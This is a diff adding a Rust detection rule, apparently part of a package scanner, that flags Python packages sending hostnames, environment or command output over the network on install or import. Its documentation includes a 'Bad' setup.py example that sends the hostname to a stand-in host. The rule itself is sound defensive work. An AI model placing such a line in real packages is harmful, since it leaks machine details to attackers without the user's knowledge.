@@ -1,0 +1,60 @@
+//! ## What it detects
+//!
+//! The host name, user name, whole environment or the output of commands, sent over the network by code that nobody called.
+//!
+//! ## Why it is bad
+//!
+//! It tells the attacker which machines it reached; dependency-confusion attacks begin with it.
+//!
+//! ## Innocent lookalikes
+//!
+//! Telemetry sends the platform when the program runs, not when it is installed or imported.
+//!
+//! ## Bad
+//!
+//! ```python setup.py
+//! import socket, requests
+//! requests.get('http://x.example.invalid/?h=' + socket.gethostname())
+//! ```
+//!
+//! ## Good
+//!
+//! ```python setup.py
+//! import socket
+//! print(socket.gethostname())
+//! ```
+
+use fondaco_python::{Api, Call, Taint};
+use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};
+
+use crate::{Hits, Package, Rule};
+
+pub(crate) const RULE: Rule = Rule {
+    id: RuleId::new("host-exfiltration"),
+    title: "sends facts about the host out",
+    severity: Severity::High,
+    confidence: Confidence::Medium,
+    behaviour: Some(Behaviour::Exfiltration),
+    weight: 1.5,
+    check,
+};
+
+fn check(package: &Package<'_>, hits: &mut Hits) {
+    for (unit, call) in package.calls() {
+        let sends = matches!(call.api, Some(Api::NetworkFetch | Api::NetworkSend)) || is_lookup(&call.callee);
+        let facts = Taint::HOST | Taint::COMMAND_OUTPUT | Taint::ENVIRONMENT;
+        let is_receiver = call.callee.starts_with("socket.socket().recv");
+        if sends && !is_receiver && call.taint().has(facts) && call.trigger.is_some_and(Trigger::is_unasked) && !own_variable(call) {
+            hits.call(unit, call, format!("{} with facts about the host", call.callee));
+        }
+    }
+}
+
+fn is_lookup(callee: &str) -> bool {
+    matches!(callee, "socket.gethostbyname" | "socket.getaddrinfo")
+}
+
+/// An address or a key that the user has set in a variable.
+fn own_variable(call: &Call) -> bool {
+    !call.taint().has(Taint::HOST | Taint::COMMAND_OUTPUT) && !call.texts().iter().any(|t| t.contains("://"))
+}
